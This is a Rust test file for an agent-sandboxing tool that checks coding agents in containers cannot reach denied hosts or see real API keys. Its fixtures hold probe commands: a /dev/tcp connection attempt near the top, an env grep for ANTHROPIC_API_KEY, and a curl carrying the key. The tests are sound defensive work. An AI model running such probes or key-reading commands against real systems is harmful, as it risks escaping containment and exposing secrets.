        format!(
            "#!/bin/sh
if timeout 5 bash -c 'exec 3<>/dev/tcp/{}/8080'; then echo DENIED-OPEN; else echo DENIED-SHUT; fi > /dump/probe.txt
exec /opt/claude \"$@\"\n",
            denied.address()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&spy, std::fs::Permissions::from_mode(0o755)).unwrap();
    let claude = std::fs::canonicalize(claude).unwrap();
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\nbinary = \"/opt/spy\"\n{}\n\
         [sandbox]\nkind = \"docker\"\nimage = \"{IMAGE}\"\nnetwork = \"allowlist\"\nallow = [\"{}:8080\"]\n\
         mounts = [{{ host = \"{}\", sandbox = \"/opt/claude\", read_only = true }}, {{ host = \"{}\", sandbox = \"/opt/spy\", read_only = true }}, {{ host = \"{}\", sandbox = \"/dump\" }}]\n\
         [loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
        agent_env(&front),
        allowed.address(),
        claude.display(),
        spy.display(),
        dump.display()
    );
    run_held(&env, &front, &server, &manifest);
    assert_eq!(std::fs::read_to_string(dump.join("probe.txt")).unwrap().trim(), "DENIED-SHUT");
}

/// A node CLI from npm, as a test runs it in a container.
struct NodeAgent<'a> {
    kind: &'a str,
    binary: &'a str,
    /// Its `env` (TOML pairs), `{front}` and `{key}` filled in.
    env: &'a str,
    /// More of `[agent]` (TOML lines).
    lines: &'a str,
    /// The variable whose placeholder it gets.
    key_var: &'a str,
    engine: &'a str,
}

/// `agent` (with node and its modules mounted) in its engine with no network, behind the spy;
/// `configure` gets the server's URL first: the server gets the key from the proxy only, and
/// inside there is only the placeholder of `key_var`.
fn node_agent_holds_the_key(env: &TestEnv, agent: &NodeAgent<'_>, configure: &dyn Fn(&str)) -> Option<Run> {
    let node = crate::real_agents::require("node")?;
    let cli = crate::real_agents::require(agent.binary)?;
    if !crate::containers::ready(agent.engine) {
        return None;
    }
    let (node, cli) = (std::fs::canonicalize(node).unwrap(), std::fs::canonicalize(cli).unwrap());
    let modules = cli.ancestors().find(|dir| dir.ends_with("node_modules")).unwrap().to_path_buf();
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    let front = TlsFront::start(server.port);
    configure(&front.url());
    let dump = env.root().join("dump");
    std::fs::create_dir_all(&dump).unwrap();
    let spy = spy(env.root(), &cli.display().to_string(), "/dump");
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"{}\"\nbinary = \"/opt/spy\"\n{}\
         env = {{ {} }}\n[sandbox]\nkind = \"{}\"\nimage = \"{IMAGE}\"\nnetwork = \"none\"\n\
         mounts = [{{ host = \"{}\", sandbox = \"/usr/local/bin/node\", read_only = true }}, {{ host = \"{}\", sandbox = \"{}\", read_only = true }}, \
         {{ host = \"{}\", sandbox = \"/opt/spy\", read_only = true }}, {{ host = \"{}\", sandbox = \"/dump\" }}]\n\
         [loop]\nmax_iterations = 1\nidle_timeout = \"60s\"\n",
        agent.kind,
        agent.lines,
        agent.env.replace("{front}", &front.url()).replace("{key}", KEY),
        agent.engine,
        node.display(),
        modules.display(),
        modules.display(),
        spy.display(),
        dump.display()
    );
    let path = env.write_manifest(&manifest);
    let mut command = env.eden_command(&["run", path.to_str().unwrap(), "--json"]);
    command.env("SSL_CERT_FILE", &front.ca).env("XDG_CONFIG_HOME", env.root().join("xdg"));
    let run = Run::from(command.output().unwrap());
    run.assert_code(0);
    assert_eq!(run.json()["held_keys"][0]["var"], agent.key_var, "{}", run.stderr);
    let heads = front.heads();
    assert!(heads.contains(KEY), "the server gets the real key:\n{heads}");
    // (The run's branch is `eden-held-…` too, and codex names its worktree in a header.)
    assert!(
        !heads.contains(": eden-held-") && !heads.contains("Bearer eden-held-"),
        "a placeholder reached the server:\n{heads}"
    );
    let files = std::fs::read_to_string(dump.join("files.txt")).unwrap();
    assert_eq!(files, "", "files in the sandbox hold the key");
    let procs = std::fs::read_to_string(dump.join("procs.txt")).unwrap();
    let inside = std::fs::read_to_string(dump.join("env.txt")).unwrap();
    assert!(inside.contains(&format!("{}=eden-held-", agent.key_var)), "{inside}");
    assert!(!procs.contains(KEY) && !inside.contains(KEY), "the key is in the sandbox");
    assert!(!run.stdout.contains(KEY) && !run.stderr.contains(KEY));
    assert_eq!(env.log_subjects("main")[0], "add hello.txt");
    Some(run)
}

/// Copilot with a provider of its own (`COPILOT_PROVIDER_BASE_URL`, type openai).
#[test]
fn copilot_in_docker_holds_the_key() {
    let env = TestEnv::new();
    let agent = NodeAgent {
        kind: "copilot",
        binary: "copilot",
        env: "COPILOT_PROVIDER_BASE_URL = \"{front}/v1\", COPILOT_PROVIDER_TYPE = \"openai\", \
              COPILOT_PROVIDER_API_KEY = \"{key}\", COPILOT_MODEL = \"mock-model\", COPILOT_OFFLINE = \"true\"",
        lines: "",
        key_var: "COPILOT_PROVIDER_API_KEY",
        engine: "docker",
    };
    let Some(run) = node_agent_holds_the_key(&env, &agent, &|_| ()) else { return };
    assert!(run.json()["held_keys"][0]["upstream"].as_str().unwrap().ends_with("/v1"));
}

/// Codex with the built-in OpenAI provider (`CODEX_API_KEY`; its base URL given as
/// `-c openai_base_url=…`, pointing at the relay).
fn codex_holds_the_key(engine: &str) {
    let env = TestEnv::new();
    let home = env.root().join("codex");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("config.toml"), "model = \"gpt-5.5\"\n").unwrap();
    let agent_env =
        format!("OPENAI_BASE_URL = \"{{front}}/v1\", CODEX_API_KEY = \"{{key}}\", CODEX_HOME = \"{}\"", home.display());
    let agent =
        NodeAgent { kind: "codex", binary: "codex", env: &agent_env, lines: "", key_var: "CODEX_API_KEY", engine };
    node_agent_holds_the_key(&env, &agent, &|_| ());
}

#[test]
fn codex_in_docker_holds_the_key() {
    codex_holds_the_key("docker");
}

#[test]
fn codex_in_podman_holds_the_key() {
    codex_holds_the_key("podman");
}

/// pi with its built-in Anthropic provider, which the person's `models.json` points at a
/// gateway (the test's server): eden writes the run's private `models.json` with the relay's
/// URL for it, and holds `ANTHROPIC_API_KEY`.
fn pi_holds_the_key(engine: &str) {
    let env = TestEnv::new();
    let dir = env.root().join("pi");
    std::fs::create_dir_all(&dir).unwrap();
    let agent_env = format!("ANTHROPIC_API_KEY = \"{{key}}\", PI_CODING_AGENT_DIR = \"{}\"", dir.display());
    // The gateway's URL is known once the test's server runs: the models file names it then.
    let models = |front: &str| {
        let models = serde_json::json!({ "providers": { "anthropic": {
            "baseUrl": front, "models": [{ "id": "mock-model", "name": "Mock model" }] } } });
        std::fs::write(dir.join("models.json"), models.to_string()).unwrap();
    };
    let agent = NodeAgent {
        kind: "pi",
        binary: "pi",
        env: &agent_env,
        lines: "model = \"anthropic/mock-model\"\n",
        key_var: "ANTHROPIC_API_KEY",
        engine,
    };
    let Some(run) = node_agent_holds_the_key(&env, &agent, &models) else { return };
    assert!(run.json()["held_keys"][0]["upstream"].as_str().unwrap().starts_with("https://localhost:"));
    let mine = std::fs::read_to_string(dir.join("models.json")).unwrap();
    assert!(!mine.contains("127.0.0.1"), "the person's models.json is theirs: {mine}");
}

#[test]
fn pi_in_docker_holds_the_key() {
    pi_holds_the_key("docker");
}

#[test]
fn pi_in_podman_holds_the_key() {
    pi_holds_the_key("podman");
}

/// opencode with a provider of the person's own (its global `opencode.json`, key
/// `{env:MOCK_KEY}`): eden points it at the relay through `OPENCODE_CONFIG_CONTENT`.
#[test]
fn opencode_in_docker_holds_the_key() {
    let env = TestEnv::new();
    let config = env.root().join("xdg/opencode");
    std::fs::create_dir_all(&config).unwrap();
    let provider = |front: &str| {
        let config_json = serde_json::json!({
            "$schema": "https://opencode.ai/config.json", "autoupdate": false, "share": "disabled",
            "provider": { "mock": {
                "npm": "@ai-sdk/openai-compatible", "name": "Mock",
                "options": { "baseURL": format!("{front}/v1"), "apiKey": "{env:MOCK_KEY}" },
                "models": { "mock-model": { "name": "Mock model" } } } } });
        std::fs::write(config.join("opencode.json"), config_json.to_string()).unwrap();
    };
    let agent = NodeAgent {
        kind: "opencode",
        binary: "opencode",
        env: "MOCK_KEY = \"{key}\", OPENCODE_DISABLE_AUTOUPDATE = \"1\"",
        lines: "model = \"mock/mock-model\"\n",
        key_var: "MOCK_KEY",
        engine: "docker",
    };
    let Some(run) = node_agent_holds_the_key(&env, &agent, &provider) else { return };
    assert!(run.json()["held_keys"][0]["upstream"].as_str().unwrap().ends_with("/v1"));
}

/// `eden interactive` holds the key too: the agent's session in docker sees the placeholder.
#[test]
fn an_interactive_session_holds_the_key() {
    if !crate::containers::ready("docker") {
        return;
    }
    let env = TestEnv::new();
    let agent = env.root().join("show.sh");
    std::fs::write(&agent, "#!/bin/sh\nenv | grep -E '^ANTHROPIC_(API_KEY|BASE_URL)=' | sort\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    let manifest = format!(
        "name = \"held\"\nprompt = \"\"\n[agent]\nkind = \"claude-code\"\nbinary = \"/opt/show\"\nenv = {{ ANTHROPIC_API_KEY = \"{KEY}\" }}\n\
         [sandbox]\nkind = \"docker\"\nimage = \"{IMAGE}\"\nmounts = [{{ host = \"{}\", sandbox = \"/opt/show\", read_only = true }}]\n",
        agent.display()
    );
    let path = env.write_manifest(&manifest);
    let mut command = env.eden_command(&["interactive", path.to_str().unwrap(), "--no-tty"]);
    let run = Run::from(command.stdin(std::process::Stdio::null()).output().unwrap());
    run.assert_code(0);
    assert!(run.stdout.contains("ANTHROPIC_API_KEY=eden-held-"), "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:"), "{}", run.stdout);
    assert!(!run.stdout.contains(KEY) && !run.stderr.contains(KEY));
}

/// Which processes hold the listening socket at `path` (pid and command line), for a failure's
/// message: `/proc/net/unix` names its inode, `/proc/*/fd` who has it open.
fn socket_holders(path: &Path) -> String {
    let table = std::fs::read_to_string("/proc/net/unix").unwrap_or_default();
    let wanted = path.display().to_string();
    let inodes: Vec<String> = table
        .lines()
        .filter(|line| line.ends_with(&wanted))
        .filter_map(|line| line.split_whitespace().nth(6))
        .map(str::to_owned)
        .collect();
    let mut holders = Vec::new();
    for process in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(fds) = std::fs::read_dir(process.path().join("fd")) else { continue };
        for fd in fds.flatten() {
            let Ok(target) = std::fs::read_link(fd.path()) else { continue };
            let target = target.display().to_string();
            if inodes.iter().any(|inode| target == format!("socket:[{inode}]")) {
                let cmdline = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
                holders.push(format!(
                    "{} {}",
                    process.file_name().to_string_lossy(),
                    String::from_utf8_lossy(&cmdline).replace('\0', " ")
                ));
            }
        }
    }
    format!("inodes {inodes:?}, held by {holders:?}")
}

/// What eden reads from the agent's stream still works through the proxy: a provider's usage
/// limit (a 429 the proxy streams back as it came) is waited out, and the same session goes on.
#[test]
fn a_usage_limit_comes_through_the_proxy() {
    let Some(claude) = crate::real_agents::require("claude") else { return };
    if !crate::isolated::bwrap() {
        return;
    }
    let env = TestEnv::new();
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    server.stats.rate_limit_once.store(true, std::sync::atomic::Ordering::SeqCst);
    let front = TlsFront::start(server.port);
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\nbinary = \"{}\"\n{}\n\
         [sandbox]\nkind = \"isolated\"\nnetwork = \"none\"\n[loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
        std::fs::canonicalize(claude).unwrap().display(),
        agent_env(&front)
    );
    let run = run_held(&env, &front, &server, &manifest);
    let record = run.json();
    let iterations = record["iterations"].as_array().unwrap();
    let outcomes: Vec<&str> = iterations.iter().map(|i| i["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcomes, ["usage_limit", "completed"], "{}", run.stderr);
    assert_eq!(iterations[0]["agent_error"]["kind"], "rate_limit");
    assert_eq!(iterations[0]["session_id"], iterations[1]["session_id"], "the same session went on");
}

/// A keyless `HEAD` (Claude Code's connectivity probe, `HEAD /api/hello`) goes on to the upstream
/// as it is, with no key added, instead of reading as a refused key (403); a keyless `GET` is
/// still refused.
#[test]
fn a_keyless_probe_goes_on_without_a_key() {
    let dir = tempfile::tempdir().unwrap();
    let server = ModelServer::start(dir.path().to_path_buf(), false);
    let upstream = eden::values::BaseUrl::parse(&format!("http://127.0.0.1:{}", server.port)).unwrap();
    let socket = dir.path().join("0.sock");
    let proxy = eden::proxy::Proxy::start(&socket, upstream, vec![held_test_key()]).unwrap();
    let ask = |request: &str| ask_proxy(&socket, request);
    let probe = ask("HEAD /api/hello HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n");
    assert!(probe.starts_with("HTTP/1.1 ") && !probe.starts_with("HTTP/1.1 403"), "{probe}");
    let get = ask("GET /api/hello HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n");
    assert!(get.starts_with("HTTP/1.1 403"), "{get}");
    std::thread::sleep(std::time::Duration::from_millis(200));
    let audit = proxy.drain();
    assert_eq!(audit.iter().filter(|a| a.status == Some(403)).count(), 1, "only the GET was refused: {audit:?}");
    // The probe reached the upstream (not eden's own 502 for one it could not reach).
    assert!(audit.iter().any(|a| a.status != Some(403) && a.refused.is_none()), "{audit:?}");
}

/// The proxy's requests are told as they are answered, not when the iteration ends; one still
/// in flight when the agent is stopped (here by the idle timeout) is told as such. The provider
/// is plain HTTP on loopback: `/v1/quick` answers at once, `/v1/slow` never does.
#[test]
fn provider_requests_are_told_live_and_in_flight_when_stopped() {
    if !crate::isolated::bwrap() {
        return;
    }
    let env = TestEnv::new();
    let provider = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = provider.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut connection in provider.incoming().flatten() {
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && connection.read(&mut byte).is_ok_and(|n| n == 1) {
                    head.push(byte[0]);
                }
                if String::from_utf8_lossy(&head).contains("/v1/slow") {
                    std::thread::sleep(std::time::Duration::from_secs(60));
                }
                let _ = connection.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}");
            });
        }
    });
    let ask = |path: &str| {
        format!(
            "curl -s -X POST \"$ANTHROPIC_BASE_URL{path}\" -H \"x-api-key: $ANTHROPIC_API_KEY\" -d '{{}}' >/dev/null"
        )
    };
    let agent = env.script("asks.sh", &format!("cat >/dev/null\n{}\nsleep 3\n{}\n", ask("/v1/quick"), ask("/v1/slow")));
    let manifest = format!(
        "name = \"asks\"\nprompt = \"x\"\n[agent]\nkind = \"claude-code\"\nbinary = \"{}\"\n\
         env = {{ ANTHROPIC_BASE_URL = \"http://127.0.0.1:{port}\", ANTHROPIC_API_KEY = \"{KEY}\" }}\n\
         [sandbox]\nkind = \"isolated\"\nnetwork = \"none\"\n[loop]\nmax_iterations = 1\nidle_timeout = \"6s\"\n",
        agent.display()
    );
    let run = env.run_manifest(&manifest, &[]);
    assert_ne!(run.code, 0, "the idle timeout stopped it");
    let record = run.record();
    let log = std::fs::read_to_string(record["log"].as_str().unwrap()).unwrap();
    let events: Vec<serde_json::Value> = log.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let at = |event: &serde_json::Value| humantime::parse_rfc3339(event["ts"].as_str().unwrap()).unwrap();
    let requests: Vec<&serde_json::Value> = events.iter().filter(|e| e["event"] == "provider_request").collect();
    assert_eq!(requests.len(), 2, "{log}");
    let finished = events.iter().find(|e| e["event"] == "iteration_finished").expect("the iteration ended");
    let (quick, slow) = (requests[0], requests[1]);
    assert_eq!((&quick["path"], &quick["status"]), (&"/v1/quick".into(), &200.into()), "{quick}");
    let early = at(finished).duration_since(at(quick)).unwrap();
    assert!(early >= std::time::Duration::from_secs(5), "told {early:?} before the iteration ended: {log}");
    assert_eq!(
        (&slow["path"], &slow["in_flight"], &slow["status"]),
        (&"/v1/slow".into(), &true.into(), &serde_json::Value::Null)
    );
    assert!(run.stderr.contains("provider POST 127.0.0.1:"), "{}", run.stderr);
    assert!(run.stderr.contains("/v1/slow → no answer yet: the agent was stopped"), "{}", run.stderr);
    assert!(!log.contains(KEY) && !run.stderr.contains(KEY));
}
